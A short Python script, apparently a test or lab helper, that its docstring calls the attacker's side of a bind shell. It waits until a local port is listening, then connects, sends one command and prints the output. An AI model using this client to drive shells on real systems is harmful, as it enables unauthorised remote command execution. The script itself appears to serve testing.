"""The attacker's side of a bind shell: once something listens on PORT (seen
in /proc/net/tcp, so no connect is tried early), connect to HOST PORT, send a
command, print what comes back."""
import socket
import sys
import time


def listening(port):
    with open('/proc/net/tcp') as table:
        return any(f[1].endswith(':%04X' % port) and f[3] == '0A' for f in (line.split() for line in table) if len(f) > 3)


port = int(sys.argv[2])
for _ in range(200):
    if listening(port):
        break
    time.sleep(0.025)
else:
    sys.exit('knock: nothing listens')
conn = socket.create_connection((sys.argv[1], port), timeout=5)
conn.sendall(sys.argv[3].encode() + b'\n')
while True:
    data = conn.recv(4096)
    if not data:
        break
    sys.stdout.write(data.decode(errors='replace'))
